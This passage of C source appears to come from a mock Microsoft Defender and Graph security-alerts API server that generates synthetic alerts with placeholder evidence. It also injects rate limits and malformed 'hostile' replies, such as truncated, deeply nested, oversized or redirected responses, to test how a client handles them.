	    h < 40 ? "srv" : "ws", h, a->t->name);
	hr.s = hash64(f->host, strlen(f->host));
	rng_hex(&hr, f->machine, 40);
	rng_uuid(&hr, f->dev_uuid);
	f->os_build = 19041 + (int)rng_below(&hr, 4000);
	snprintf(f->sid, sizeof f->sid, "S-1-5-21-%u-%u-%u-%u",
	    (unsigned)(hash64(a->t->name, strlen(a->t->name)) % 900000000) +
	    100000000, 1111760036u, 109187956u,
	    1000 + (unsigned)rng_below(&r, 90000));
	rng_uuid(&r, f->aad_user);
	rng_hex(&r, f->sha1p, 40);
	rng_hex(&r, f->sha256p, 64);
	rng_hex(&r, f->sha1f, 40);
	rng_hex(&r, f->sha256f, 64);
	f->pid = 1000 + (int)rng_below(&r, 30000);
	f->ppid = 400 + (int)rng_below(&r, 9000);
	f->ev_time = a->created + (int64_t)rng_below(&r, 2 * TICKS_PER_SEC);
	f->pctime = a->first_ev - (int64_t)rng_below(&r, 5 * TICKS_PER_SEC);
	f->ppctime = f->pctime - (int64_t)rng_below(&r, 3600 * TICKS_PER_SEC);
	f->ev_dig = rng_digits(&r);
	f->pc_dig = 7;
	f->ppc_dig = 7;
	f->fe_dig = rng_digits(&r);
	f->le_dig = rng_digits(&r);
	f->comment = rng_below(&r, 4) == 0;
	/* Half the alerts are Endpoint's, the rest one product each. */
	hr.s = a->seed ^ 0x5e7f1ce5a11c0debULL;
	h = (unsigned)rng_below(&hr, 2 * (nitems(products) - 1));
	f->product = h < nitems(products) - 1 ? 0 : h - (nitems(products) - 2);
	f->prefer = true;
}

/* One MDE evidence entry; every key present, null when not applicable. */
static void
mde_evidence(struct buf *b, const struct alert *a, const struct facts *f,
    int kind)
{
	const struct tmpl	*tp = f->tp;
	struct jw		 w = { b, 0 };
	bool			 user = kind == 0, proc = kind == 1;
	bool			 file = kind == 2;

	buf_addc(b, '{');
	jw_str(&w, "entityType", user ? "User" : proc ? "Process" : "File");
	jw_ts(&w, "evidenceCreationTime", f->ev_time, f->ev_dig);
	jw_str(&w, "sha1", user ? NULL : proc ? f->sha1p : f->sha1f);
	jw_str(&w, "sha256", user ? NULL : proc ? f->sha256p : f->sha256f);
	jw_str(&w, "fileName", user ? NULL : proc ? tp->proc : tp->file);
	jw_str(&w, "filePath", user ? NULL : proc ? tp->proc_dir :
	    tp->file_dir);
	jw_key(&w, "processId");
	if (proc)
		buf_addf(b, "%d", f->pid);
	else
		buf_adds(b, "null");
	jw_str(&w, "processCommandLine", proc ? tp->cmdline : NULL);
	jw_ts(&w, "processCreationTime", proc ? f->pctime : TICKS_NONE,
	    f->pc_dig);
	jw_key(&w, "parentProcessId");
	if (proc)
		buf_addf(b, "%d", f->ppid);
	else
		buf_adds(b, "null");
	jw_ts(&w, "parentProcessCreationTime", proc ? f->ppctime : TICKS_NONE,
	    f->ppc_dig);
	jw_str(&w, "parentProcessFileName", proc ? tp->parent : NULL);
	jw_str(&w, "parentProcessFilePath", proc ? tp->parent_dir : NULL);
	jw_str(&w, "ipAddress", NULL);
	jw_str(&w, "url", NULL);
	jw_str(&w, "registryKey", NULL);
	jw_str(&w, "registryHive", NULL);
	jw_str(&w, "registryValueType", NULL);
	jw_str(&w, "registryValue", NULL);
	jw_str(&w, "accountName", user ? f->user : NULL);
	jw_str(&w, "domainName", user ? "CORP" : NULL);
	jw_str(&w, "userSid", user ? f->sid : NULL);
	jw_str(&w, "aadUserId", user ? f->aad_user : NULL);
	jw_key(&w, "userPrincipalName");
	if (user)
		buf_addf(b, "\"%s@%s.example\"", f->user, a->t->name);
	else
		buf_adds(b, "null");
	jw_str(&w, "detectionStatus", file || proc ? "Detected" : NULL);
	buf_addc(b, '}');
}

static void
alert_comments(struct buf *b, const struct alert *a, const struct facts *f)
{
	if (!f->comment) {
		buf_adds(b, "[]");
		return;
	}
	buf_adds(b, "[{\"comment\":\"Customer notified, investigating\","
	    "\"createdBy\":\"secop123@contoso.com\",\"createdTime\":");
	json_ts(b, a->created + 37 * TICKS_PER_SEC, 7);
	buf_adds(b, "}]");
}

/* Render the MDE JSON of the current version (with evidence). */
static void
render_mde(struct alert *a)
{
	const struct tmpl	*tp;
	struct facts		 f;
	struct buf		 b;
	struct jw		 w;
	int			 i;

	facts_make(a, &f);
	tp = f.tp;
	buf_init(&b);
	buf_reserve(&b, 6144);
	w.b = &b;
	w.n = 0;
	buf_addc(&b, '{');
	if (jw_field(&w, a, "id"))
		json_str(&b, a->id);
	if (jw_field(&w, a, "incidentId"))
		buf_addf(&b, "%lld", f.incident);
	if (jw_field(&w, a, "investigationId")) {
		if (f.investigation < 0)
			buf_adds(&b, "null");
		else
			buf_addf(&b, "%lld", f.investigation);
	}
	if (jw_field(&w, a, "assignedTo"))
		json_str(&b, a->analyst < 0 ? NULL : analysts[a->analyst]);
	if (jw_field(&w, a, "severity"))
		json_str(&b, sev_mde[a->sev]);
	if (jw_field(&w, a, "status"))
		json_str(&b, status_mde[a->status]);
	if (jw_field(&w, a, "classification"))
		json_str(&b, clss[a->cls].cls);
	if (jw_field(&w, a, "determination"))
		json_str(&b, clss[a->cls].det);
	if (jw_field(&w, a, "investigationState"))
		json_str(&b, f.inv_state);
	if (jw_field(&w, a, "detectionSource"))
		json_str(&b, tp->source);
	if (jw_field(&w, a, "detectorId"))
		json_str(&b, tp->detector);
	if (jw_field(&w, a, "category"))
		json_str(&b, tp->category);
	if (jw_field(&w, a, "threatFamilyName"))
		json_str(&b, tp->family);
	if (jw_field(&w, a, "title"))
		json_str(&b, tp->title);
	if (jw_field(&w, a, "description"))
		json_str(&b, tp->description);
	if (jw_field(&w, a, "alertCreationTime"))
		json_ts(&b, a->created, a->cdig);
	if (jw_field(&w, a, "firstEventTime"))
		json_ts(&b, a->first_ev, f.fe_dig);
	if (jw_field(&w, a, "lastEventTime"))
		json_ts(&b, a->last_ev, f.le_dig);
	if (jw_field(&w, a, "lastUpdateTime"))
		json_ts(&b, a->lut, a->ldig);
	if (jw_field(&w, a, "resolvedTime"))
		json_ts(&b, a->resolved, 7);
	if (jw_field(&w, a, "machineId"))
		json_str(&b, f.machine);
	if (jw_field(&w, a, "computerDnsName"))
		json_str(&b, f.host);
	if (jw_field(&w, a, "rbacGroupName"))
		json_str(&b, f.rbac);
	if (jw_field(&w, a, "aadTenantId"))
		json_str(&b, a->t->name);
	if (jw_field(&w, a, "threatName"))
		json_str(&b, tp->threat);
	if (jw_field(&w, a, "mitreTechniques"))
		buf_adds(&b, tp->mitre);
	if (jw_field(&w, a, "relatedUser"))
		buf_addf(&b, "{\"userName\":\"%s\",\"domainName\":\"CORP\"}",
		    f.user);
	if (jw_field(&w, a, "comments"))
		alert_comments(&b, a, &f);
	jw_extras(&w, a);
	jw_key(&w, "evidence");
	a->ev_off = b.len;
	if (a->novr > 0 && ovr_find(a, "evidence") != NULL)
		buf_add(&b, ovr_find(a, "evidence")->val,
		    ovr_find(a, "evidence")->vlen);
	else {
		buf_addc(&b, '[');
		for (i = 0; i < 3; i++) {
			if (i > 0)
				buf_addc(&b, ',');
			mde_evidence(&b, a, &f, i);
		}
		buf_addc(&b, ']');
	}
	a->ev_end = b.len;
	buf_addc(&b, '}');
	free(a->json);
	a->json = xrealloc(b.data, b.len + 1);	/* kept for long: fit it */
	a->len = b.len;
	free(a->graph);
	a->graph = NULL;
	free(a->graph_np);
	a->graph_np = NULL;
}

/* Write a Graph value derived from an MDE override's raw JSON. */
static void
xform_emit(struct buf *b, enum xform x, const char *v, size_t n)
{
	size_t	 i;

	if (x == X_ENUM_NULL && n == 4 && memcmp(v, "null", 4) == 0) {
		buf_adds(b, "\"unknown\"");
		return;
	}
	if (x == X_NUMSTR && n > 0 && (v[0] == '-' || isdigit((u_char)v[0]))) {
		buf_addc(b, '"');
		buf_add(b, v, n);
		buf_addc(b, '"');
		return;
	}
	if (x == X_SOURCE && n > 2) {
		for (i = 0; i < nitems(sources); i++) {
			if (strlen(sources[i].mde) == n - 2 &&
			    memcmp(sources[i].mde, v + 1, n - 2) == 0) {
				json_str(b, sources[i].graph);
				return;
			}
		}
	}
	if ((x == X_ENUM || x == X_ENUM_NULL || x == X_SOURCE) && n > 2 &&
	    v[0] == '"' && isupper((u_char)v[1])) {
		if (n == 13 && memcmp(v, "\"UnSpecified\"", 13) == 0) {
			buf_adds(b, "\"unknown\"");
			return;
		}
		buf_addc(b, '"');
		buf_addc(b, (char)tolower((u_char)v[1]));
		buf_add(b, v + 2, n - 2);
		return;
	}
	buf_add(b, v, n);
}

/* Start Graph member gk; 0 when an override already gave its value. */
static int
jw_gfield(struct jw *w, const struct alert *a, const struct gkey *gk)
{
	const struct ovr	*o;

	jw_key(w, gk->graph);
	if (a->novr == 0)
		return 1;
	if ((o = ovr_find(a, gk->graph)) != NULL) {
		buf_add(w->b, o->val, o->vlen);
		return 0;
	}
	if (gk->mde == NULL || (o = ovr_find(a, gk->mde)) == NULL)
		return 1;
	xform_emit(w->b, gk->x, o->val, o->vlen);
	return 0;
}

/* A raw override, or the generated string. */
static void
raw_or_str(struct buf *b, const struct alert *a, const char *key,
    const char *gen)
{
	const struct ovr	*o;

	if (a->novr > 0 && (o = ovr_find(a, key)) != NULL)
		buf_add(b, o->val, o->vlen);
	else
		json_str(b, gen);
}

static void
graph_file(struct buf *b, const char *sha1, const char *sha256,
    const char *name, const char *dir, int size)
{
	struct jw	 w = { b, 0 };

	buf_addc(b, '{');
	jw_str(&w, "sha1", sha1);
	jw_str(&w, "sha256", sha256);
	jw_str(&w, "fileName", name);
	jw_str(&w, "filePath", dir);
	jw_key(&w, "fileSize");
	buf_addf(b, "%d", size);
	jw_str(&w, "filePublisher", sha1 == NULL ? "Microsoft Corporation" :
	    NULL);
	jw_str(&w, "signer", NULL);
	jw_str(&w, "issuer", NULL);
	buf_addc(b, '}');
}

/* Graph evidence: the device, the file and the process (§5.4 shapes). */
static void
graph_evidence(struct buf *b, const struct alert *a, const struct facts *f)
{
	const struct tmpl	*tp = f->tp;

	buf_adds(b, "[{\"@odata.type\":\"#microsoft.graph.security."
	    "deviceEvidence\",\"createdDateTime\":");
	json_ts(b, f->ev_time, f->ev_dig);
	buf_adds(b, ",\"verdict\":\"unknown\",\"remediationStatus\":\"none\","
	    "\"remediationStatusDetails\":null,\"firstSeenDateTime\":");
	json_ts(b, a->created - 86400LL * 90 * TICKS_PER_SEC, 7);
	buf_adds(b, ",\"mdeDeviceId\":");
	raw_or_str(b, a, "machineId", f->machine);
	buf_adds(b, ",\"azureAdDeviceId\":null,\"deviceDnsName\":");
	raw_or_str(b, a, "computerDnsName", f->host);
	buf_addf(b, ",\"osPlatform\":\"Windows10\",\"osBuild\":%d,"
	    "\"version\":\"22H2\",\"healthStatus\":\"active\","
	    "\"riskScore\":\"medium\",\"rbacGroupId\":75,\"rbacGroupName\":",
	    f->os_build);
	raw_or_str(b, a, "rbacGroupName", f->rbac);
	buf_addf(b, ",\"onboardingStatus\":\"onboarded\","
	    "\"defenderAvStatus\":\"updated\","
	    "\"ipInterfaces\":[\"10.%u.%u.%u\"],"
	    "\"loggedOnUsers\":[],\"roles\":[\"compromised\"],"
	    "\"detailedRoles\":[\"Main device\"],\"tags\":[],"
	    "\"vmMetadata\":null}", (unsigned)f->os_build % 250,
	    (unsigned)f->pid % 250, (unsigned)f->ppid % 250);

	buf_adds(b, ",{\"@odata.type\":\"#microsoft.graph.security."
	    "fileEvidence\",\"createdDateTime\":");
	json_ts(b, f->ev_time, f->ev_dig);
	buf_adds(b, ",\"verdict\":\"suspicious\",\"remediationStatus\":"
	    "\"none\",\"remediationStatusDetails\":null,\"detectionStatus\":"
	    "\"detected\",\"mdeDeviceId\":");
	json_str(b, f->machine);
	buf_adds(b, ",\"roles\":[],\"detailedRoles\":[\"Referred in command "
	    "line\"],\"tags\":[],\"fileDetails\":");
	graph_file(b, f->sha1f, f->sha256f, tp->file, tp->file_dir,
	    4096 + f->pid);
	buf_addc(b, '}');

	buf_adds(b, ",{\"@odata.type\":\"#microsoft.graph.security."
	    "processEvidence\",\"createdDateTime\":");
	json_ts(b, f->ev_time, f->ev_dig);
	buf_addf(b, ",\"verdict\":\"unknown\",\"remediationStatus\":\"none\","
	    "\"remediationStatusDetails\":null,\"processId\":%d,"
	    "\"parentProcessId\":%d,\"processCommandLine\":", f->pid, f->ppid);
	json_str(b, tp->cmdline);
	buf_adds(b, ",\"processCreationDateTime\":");
	json_ts(b, f->pctime, f->pc_dig);
	buf_adds(b, ",\"parentProcessCreationDateTime\":");
	json_ts(b, f->ppctime, f->ppc_dig);
	buf_adds(b, ",\"detectionStatus\":\"detected\",\"mdeDeviceId\":");
	json_str(b, f->machine);
	buf_adds(b, ",\"roles\":[],\"detailedRoles\":[],\"tags\":[],"
	    "\"imageFile\":");
	graph_file(b, f->sha1p, f->sha256p, tp->proc, tp->proc_dir,
	    100000 + f->pid);
	buf_adds(b, ",\"parentProcessImageFile\":");
	graph_file(b, NULL, NULL, tp->parent, tp->parent_dir, 731744);
	buf_addf(b, ",\"userAccount\":{\"accountName\":\"%s\","
	    "\"domainName\":\"CORP\",\"userSid\":\"%s\",\"azureAdUserId\":"
	    "\"%s\",\"userPrincipalName\":\"%s@%s.example\",\"displayName\":"
	    "\"%s\"}}]", f->user, f->sid, f->aad_user, f->user, a->t->name,
	    f->user);
}

/* The Graph value of member gk that no override replaced. */
static void
graph_value(struct buf *b, const struct alert *a, const struct facts *f,
    const char *k)
{
	const struct tmpl	*tp = f->tp;
	size_t			 i;

	if (strcmp(k, "id") == 0 || strcmp(k, "providerAlertId") == 0)
		json_str(b, a->id);
	else if (strcmp(k, "incidentId") == 0)
		buf_addf(b, "\"%lld\"", f->incident);
	else if (strcmp(k, "status") == 0)
		json_str(b, status_graph[a->status]);
	else if (strcmp(k, "severity") == 0)
		json_str(b, sev_graph[a->sev]);
	else if (strcmp(k, "classification") == 0)
		json_str(b, clss[a->cls].gcls);
	else if (strcmp(k, "determination") == 0)
		json_str(b, clss[a->cls].gdet);
	else if (strcmp(k, "serviceSource") == 0)
		json_str(b, products[f->product].newer && !f->prefer ?
		    "unknownFutureValue" : products[f->product].svc);
	else if (strcmp(k, "detectionSource") == 0 &&
	    products[f->product].det != NULL)
		json_str(b, products[f->product].newer && !f->prefer ?
		    "unknownFutureValue" : products[f->product].det);
	else if (strcmp(k, "detectionSource") == 0) {
		for (i = 0; i < nitems(sources); i++) {
			if (strcmp(sources[i].mde, tp->source) == 0)
				break;
		}
		json_str(b, i < nitems(sources) ? sources[i].graph : "unknown");
	} else if (strcmp(k, "detectorId") == 0)
		json_str(b, tp->detector);
	else if (strcmp(k, "tenantId") == 0)
		json_str(b, a->t->name);
	else if (strcmp(k, "title") == 0)
		json_str(b, tp->title);
	else if (strcmp(k, "description") == 0)
		json_str(b, tp->description);
	else if (strcmp(k, "recommendedActions") == 0)
		json_str(b, "Collect artifacts and determine scope\n"
		    "\tReview the machine timeline for suspicious activities.\n"
		    "\tIsolate the device if the activity is not expected.");
	else if (strcmp(k, "category") == 0)
		json_str(b, tp->category);
	else if (strcmp(k, "assignedTo") == 0)
		json_str(b, a->analyst < 0 ? NULL : analysts[a->analyst]);
	else if (strcmp(k, "alertWebUrl") == 0)
		buf_addf(b, "\"https://security.microsoft.com/alerts/%s"
		    "?tid=%s\"", a->id, a->t->name);
	else if (strcmp(k, "incidentWebUrl") == 0)
		buf_addf(b, "\"https://security.microsoft.com/incidents/%lld"
		    "?tid=%s\"", f->incident, a->t->name);
	else if (strcmp(k, "threatDisplayName") == 0)
		json_str(b, tp->threat);
	else if (strcmp(k, "threatFamilyName") == 0)
		json_str(b, tp->family);
	else if (strcmp(k, "mitreTechniques") == 0)
		buf_adds(b, tp->mitre);
	else if (strcmp(k, "createdDateTime") == 0)
		json_ts(b, a->created, a->cdig);
	else if (strcmp(k, "lastUpdateDateTime") == 0)
		json_ts(b, a->lut, a->ldig);
	else if (strcmp(k, "resolvedDateTime") == 0)
		json_ts(b, a->resolved, 7);
	else if (strcmp(k, "firstActivityDateTime") == 0)
		json_ts(b, a->first_ev, f->fe_dig);
	else if (strcmp(k, "lastActivityDateTime") == 0)
		json_ts(b, a->last_ev, f->le_dig);
	else if (strcmp(k, "comments") == 0)
		alert_comments(b, a, f);
	else if (strcmp(k, "evidence") == 0)
		graph_evidence(b, a, f);
	else if (strcmp(k, "systemTags") == 0)
		buf_adds(b, "[]");
	else
		buf_adds(b, "null");
}

/* One Graph alerts_v2 rendering of the current version. */
static char *
render_graph_one(struct alert *a, const struct facts *f, size_t *len)
{
	struct buf	 b;
	struct jw	 w;
	size_t		 i;

	buf_init(&b);
	buf_reserve(&b, 6144);
	w.b = &b;
	w.n = 1;
	buf_adds(&b, "{\"@odata.type\":\"#microsoft.graph.security.alert\"");
	for (i = 0; i < nitems(graph_keys); i++) {
		if (strcmp(graph_keys[i].graph, "systemTags") == 0)
			jw_extras(&w, a);
		if (jw_gfield(&w, a, &graph_keys[i]))
			graph_value(&b, a, f, graph_keys[i].graph);
	}
	buf_addc(&b, '}');
	*len = b.len;
	return xrealloc(b.data, b.len + 1);
}

/*
 * Render the Graph alerts_v2 JSON of the current version, once; a newer
 * product's alert also without the Prefer header (graph_np).
 */
static void
render_graph(struct alert *a)
{
	struct facts	 f;

	if (a->graph != NULL)
		return;
	facts_make(a, &f);
	a->graph = render_graph_one(a, &f, &a->glen);
	if (products[f.product].newer) {
		f.prefer = false;
		a->graph_np = render_graph_one(a, &f, &a->glen_np);
	}
}

static void
alert_free(struct alert *a)
{
	size_t	 i;

	if (a == NULL)
		return;
	for (i = 0; i < a->novr; i++) {
		free(a->ovr[i].key);
		free(a->ovr[i].val);
	}
	free(a->ovr);
	free(a->json);
	free(a->graph);
	free(a->graph_np);
	free(a);
}

/* A new alert of tenant t last updated at lut (not yet visible). */
static struct alert *
alert_new(struct tenant *t, int64_t lut)
{
	struct alert	*a;
	struct rng	*r = &F.rng;
	int64_t		 span;

	a = xcalloc(1, sizeof *a);
	a->t = t;
	a->seed = rng_next(r);
	a->tmpl = (int)rng_below(r, nitems(tmpls));
	a->sev = tmpls[a->tmpl].sev;
	if (rng_below(r, 5) == 0)
		a->sev = 1 + (int)rng_below(r, 4);
	a->ldig = rng_digits(r);
	a->lut = ts_trunc(lut, a->ldig);
	a->cdig = rng_below(r, 4) == 0 ? rng_digits(r) : 7;
	a->created = ts_trunc(a->lut -
	    (int64_t)rng_below(r, 4 * TICKS_PER_SEC), a->cdig);
	span = 10 * TICKS_PER_SEC + (int64_t)rng_below(r, 600 * TICKS_PER_SEC);
	a->first_ev = a->created - span;
	a->last_ev = a->first_ev + (int64_t)rng_below(r, (uint64_t)span);
	a->resolved = TICKS_NONE;
	a->analyst = -1;
	snprintf(a->id, sizeof a->id, "da%018lld_%d",
	    (long long)(a->created + NET_EPOCH), (int32_t)rng_next(r));
	return a;
}

/* Move an alert one step along New -> InProgress -> Resolved. */
static void
alert_progress(struct alert *a, int64_t when)
{
	struct rng	*r = &F.rng;

	if (a->status == 0) {
		a->status = 1;
		a->analyst = (int)rng_below(r, nitems(analysts));
	} else if (a->status == 1) {
		a->status = 2;
		a->cls = 1 + (int)rng_below(r, nitems(clss) - 1);
		a->resolved = when;
	}
}

/* The raw JSON lastUpdateTime of the current version. */
static char *
alert_lut_json(const struct alert *a)
{
	const struct ovr	*o;
	char			 s[32], *out;

	if (a->novr > 0 && (o = ovr_find(a, "lastUpdateTime")) != NULL)
		return xstrndup(o->val, o->vlen);
	ts_text(a->lut, a->ldig, s);
	xasprintf(&out, "\"%s\"", s);
	return out;
}

static void
alert_id_json(struct buf *b, const struct alert *a)
{
	const struct ovr	*o;

	if (a->novr > 0 && (o = ovr_find(a, "id")) != NULL)
		buf_add(b, o->val, o->vlen);
	else
		json_str(b, a->id);
}

/* First index whose lut is >= lut (or > lut when after). */
static size_t
tenant_bound(const struct tenant *t, int64_t lut, bool after)
{
	size_t	 lo = 0, hi = t->n, mid;

	while (lo < hi) {
		mid = lo + (hi - lo) / 2;
		if (t->v[mid]->lut < lut || (after && t->v[mid]->lut == lut))
			lo = mid + 1;
		else
			hi = mid;
	}
	return lo;
}

/* A visible alert of t with id, or NULL. */
static struct alert *
alert_find(struct tenant *t, const char *id)
{
	size_t	 i;

	for (i = 0; i < t->n; i++) {
		if (strcmp(t->v[i]->id, id) == 0)
			return t->v[i];
	}
	return NULL;
}

static void
tenant_remove(struct tenant *t, struct alert *a)
{
	size_t	 i;

	for (i = tenant_bound(t, a->lut, false); i < t->n; i++) {
		if (t->v[i] == a) {
			memmove(&t->v[i], &t->v[i + 1],
			    (t->n - i - 1) * sizeof *t->v);
			t->n--;
			return;
		}
	}
	fatalx("alert %s not in tenant %s", a->id, t->name);
}

static void
version_add(struct tenant *t, struct alert *a)
{
	if (t->nver == t->capver) {
		t->capver = t->capver == 0 ? 64 : t->capver * 2;
		t->ver = xreallocarray(t->ver, t->capver, sizeof *t->ver);
	}
	t->ver[t->nver].a = a;
	t->ver[t->nver].lut = alert_lut_json(a);
	t->nver++;
}

/* Make the current version of a visible: render, insert, record. */
static void
alert_publish(struct alert *a)
{
	struct tenant	*t = a->t;
	size_t		 i;

	render_mde(a);
	a->seq = ++F.seq;
	if (t->n == t->cap) {
		t->cap = t->cap == 0 ? 256 : t->cap * 2;
		t->v = xreallocarray(t->v, t->cap, sizeof *t->v);
	}
	i = tenant_bound(t, a->lut, true);
	memmove(&t->v[i + 1], &t->v[i], (t->n - i) * sizeof *t->v);
	t->v[i] = a;
	t->n++;
	version_add(t, a);
}

/* Make a new version of a visible alert: newer lastUpdateTime, status. */
static void
alert_bump(struct alert *a)
{
	static const char	*volatile_keys[] = { "lastUpdateTime", "status",
	    "classification", "determination", "resolvedTime", "assignedTo" };
	int64_t			 lut;
	size_t			 i;
	int			 dig;

	tenant_remove(a->t, a);
	for (i = 0; i < nitems(volatile_keys); i++)
		ovr_drop(a, volatile_keys[i]);
	dig = rng_digits(&F.rng);
	lut = ts_trunc(ts_now(), dig);
	if (lut <= a->lut) {
		lut = a->lut + 1;
		dig = 7;
	}
	a->lut = lut;
	a->ldig = dig;
	alert_progress(a, lut);
	alert_publish(a);
	F.updated++;
}

/* Queue a for visibility at time at (ticks), or publish it now. */
static void
alert_schedule(struct alert *a, int64_t at)
{
	if (at <= ts_now()) {
		alert_publish(a);
		return;
	}
	a->visible_at = at;
	if (F.npend == F.cappend) {
		F.cappend = F.cappend == 0 ? 64 : F.cappend * 2;
		F.pend = xreallocarray(F.pend, F.cappend, sizeof *F.pend);
	}
	F.pend[F.npend++] = a;
}

static int
alert_cmp_lut(const void *x, const void *y)
{
	const struct alert	*a = *(struct alert * const *)x;
	const struct alert	*b = *(struct alert * const *)y;

	if (a->lut != b->lut)
		return a->lut < b->lut ? -1 : 1;
	return strcmp(a->id, b->id);
}

/* Pre-populate every tenant with alerts spread over the past. */
static void
tenants_populate(void)
{
	struct alert	**all;
	struct tenant	*t;
	int64_t		 now = ts_now(), spread;
	size_t		 i, k;

	if (F.prepop == 0)
		return;
	spread = F.spread_ms * TICKS_PER_MS;
	all = xreallocarray(NULL, F.prepop, sizeof *all);
	for (i = 0; i < F.ntenants; i++) {
		t = F.tenants[i];
		for (k = 0; k < F.prepop; k++) {
			all[k] = alert_new(t, now - 1 -
			    (int64_t)rng_below(&F.rng, (uint64_t)spread + 1));
			switch (rng_below(&F.rng, 10)) {
			case 0:
				alert_progress(all[k], all[k]->lut);
				/* FALLTHROUGH */
			case 1:
			case 2:
				alert_progress(all[k], all[k]->lut);
				break;
			}
		}
		qsort(all, F.prepop, sizeof *all, alert_cmp_lut);
		for (k = 0; k < F.prepop; k++)
			alert_publish(all[k]);
	}
	free(all);
}

static int
tenant_cmp(const void *x, const void *y)
{
	const struct tenant	*a = *(struct tenant * const *)x;
	const struct tenant	*b = *(struct tenant * const *)y;

	return strcmp(a->name, b->name);
}

static struct tenant *
tenant_find(const char *name)
{
	struct tenant	 key, *kp = &key, **tp;

	key.name = (char *)name;
	tp = bsearch(&kp, F.tenants, F.ntenants, sizeof *F.tenants, tenant_cmp);
	return tp == NULL ? NULL : *tp;
}

static void
tenant_add(const char *name)
{
	struct tenant	*t;
	size_t		 i;

	for (i = 0; i < F.ntenants; i++) {
		if (strcmp(F.tenants[i]->name, name) == 0)
			return;
	}
	t = xcalloc(1, sizeof *t);
	t->name = xstrdup(name);
	t->client_id = xstrdup(F.client_id);
	xasprintf(&t->secret, "secret-%s", name);
	F.tenants = xreallocarray(F.tenants, F.ntenants + 1,
	    sizeof *F.tenants);
	F.tenants[F.ntenants++] = t;
}

static void
tenant_free(struct tenant *t)
{
	size_t	 i, j, k;

	for (i = 0; i < t->n; i++)
		alert_free(t->v[i]);
	for (i = 0; i < t->nver; i++)
		free(t->ver[i].lut);
	free(t->v);
	free(t->ver);
	free(t->rl_min.t);
	free(t->rl_hour.t);
	for (k = 0; k < t->ninc; k++) {
		for (j = 0; j < t->inc[k].nalerts; j++)
			free(t->inc[k].alerts[j]);
		free(t->inc[k].alerts);
	}
	free(t->inc);
	free(t->iver);
	free(t->rl_graph.t);
	free(t->name);
	free(t->client_id);
	secret_free(t->secret);
	free(t);
}

/*
 * Rate limits and faults.
 */

/* Milliseconds until a call is allowed (0: now) under a window limit. */
static int64_t
ring_wait(struct ring *r, int64_t now, int64_t window)
{
	if (r->cap == 0 || r->n < r->cap)
		return 0;
	if (now - r->t[r->i] < window)
		return r->t[r->i] + window - now;
	return 0;
}

static void
ring_push(struct ring *r, int64_t now)
{
	if (r->cap == 0)
		return;
	if (r->t == NULL)
		r->t = xcalloc(r->cap, sizeof *r->t);
	r->t[r->i] = now;
	r->i = (r->i + 1) % r->cap;
	if (r->n < r->cap)
		r->n++;
}

static int
arg_int(const char *arg, int def)
{
	char	*end;
	long	 v;

	if (arg == NULL || *arg == '\0')
		return def;
	errno = 0;
	v = strtol(arg, &end, 10);
	if (errno != 0 || *end != '\0' || v < 0 || v > 100000000)
		return -1;
	return (int)v;
}

/*
 * Hostile replies: what a broken or malicious API server, or a proxy in
 * between, could send.  Armed like the other faults; they stay armed until
 * "clear" (or ARG 0), and act on successful (200) replies only.
 */

enum hostile {
	H_NONE,
	H_TRUNCATE,	/* Content-Length of the whole body, half sent, close */
	H_WRONGTYPES,	/* every alert member but the id and time mistyped */
	H_DEEP,		/* members nested ARG levels deep in the first alert */
	H_HUGE,		/* one alert (or access token) of ARG MiB, chunked */
	H_ENDLESS,	/* chunked, a page whose "value" never ends */
	H_TRICKLE,	/* the real body, one byte every ARG ms */
	H_REDIRECT,	/* 302 to http://ARG (HOST:PORT) + the same URI */
	H_NONUTF8,	/* invalid UTF-8 in every title and description */
};

static const char *hostile_names[] = { "", "truncate", "wrongtypes", "deep",
    "huge", "endless", "trickle", "redirect", "nonutf8" };

static enum hostile
hostile_kind(const char *kind)
{
	size_t	 i;

	for (i = 1; i < nitems(hostile_names); i++)
		if (strcmp(kind, hostile_names[i]) == 0)
			return (enum hostile)i;
	return H_NONE;
}

/* Arm (or with ARG "0" disarm) hostile kind h on fs. */
static int
hostile_arm(struct faults *fs, enum hostile h, const char *arg)
{
	int	 v = 0;

	if (arg != NULL && strcmp(arg, "0") == 0) {
		if (fs->hostile == (int)h)
			fs->hostile = H_NONE;
		return 0;
	}
	switch (h) {
	case H_DEEP:
		v = arg_int(arg, 100000);
		break;
	case H_HUGE:
		v = arg_int(arg, 200);
		break;
	case H_TRICKLE:
		v = arg_int(arg, 1000);
		break;
	case H_REDIRECT:
		if (arg == NULL || *arg == '\0' ||
		    strlen(arg) >= sizeof fs->hostile_to ||
		    strpbrk(arg, "/?#@ \r\n") != NULL)
			return -1;
		snprintf(fs->hostile_to, sizeof fs->hostile_to, "%s", arg);
		break;
	default:
		v = arg_int(arg, 1);
		break;
	}
	if (v < 0)
		return -1;
	fs->hostile = h;
	fs->hostile_arg = v;
	return 0;
}

/* Arm fault kind on t; "token-" kinds act on its token endpoint. */
static int
fault_set(struct tenant *t, const char *kind, const char *arg)
{
	struct faults	*fs = &t->api;
	int		 v;
	bool		 on;

	if (strncmp(kind, "token-", 6) == 0) {
		fs = &t->tok;
		kind += 6;
	}
	on = arg == NULL || strcmp(arg, "0") != 0;
	if (strcmp(kind, "clear") == 0) {
		t->nexpand500 = 0;
		t->deprecated = false;
		memset(&t->api, 0, sizeof t->api);
		memset(&t->tok, 0, sizeof t->tok);
		t->unconsented = t->no_roles = false;
		t->expired_secret = t->string_expiry = false;
		return 0;
	}
	if (fs == &t->api && strcmp(kind, "unconsented") == 0)
		t->unconsented = on;
	else if (fs == &t->api && strcmp(kind, "no-roles") == 0)
		t->no_roles = on;
	else if (fs == &t->api && strcmp(kind, "expired-secret") == 0)
		t->expired_secret = on;
	else if (fs == &t->api && strcmp(kind, "string-expiry") == 0)
		t->string_expiry = on;
	else if (fs == &t->api && strcmp(kind, "deprecated") == 0)
		t->deprecated = on;
	else if (strcmp(kind, "429") == 0) {
		if ((v = arg_int(arg, 2)) < 0)
			return -1;
		fs->throttle_secs = v;
		fs->throttle_until = 0;
	} else if (strcmp(kind, "slow") == 0) {
		if ((v = arg_int(arg, 1000)) < 0)
			return -1;
		fs->slow_ms = v;
	} else if (fs == &t->api && strcmp(kind, "nextlink-to") == 0) {
		if (!on)
			fs->link_to[0] = '\0';
		else if (arg == NULL || *arg == '\0' ||
		    strlen(arg) >= sizeof fs->link_to ||
		    strpbrk(arg, "/?#@ \r\n") != NULL)
			return -1;
		else
			snprintf(fs->link_to, sizeof fs->link_to, "%s", arg);
	} else if (hostile_kind(kind) != H_NONE) {
		if (hostile_arm(fs, hostile_kind(kind), arg) != 0)
			return -1;
	} else {
		if ((v = arg_int(arg, 1)) < 0)
			return -1;
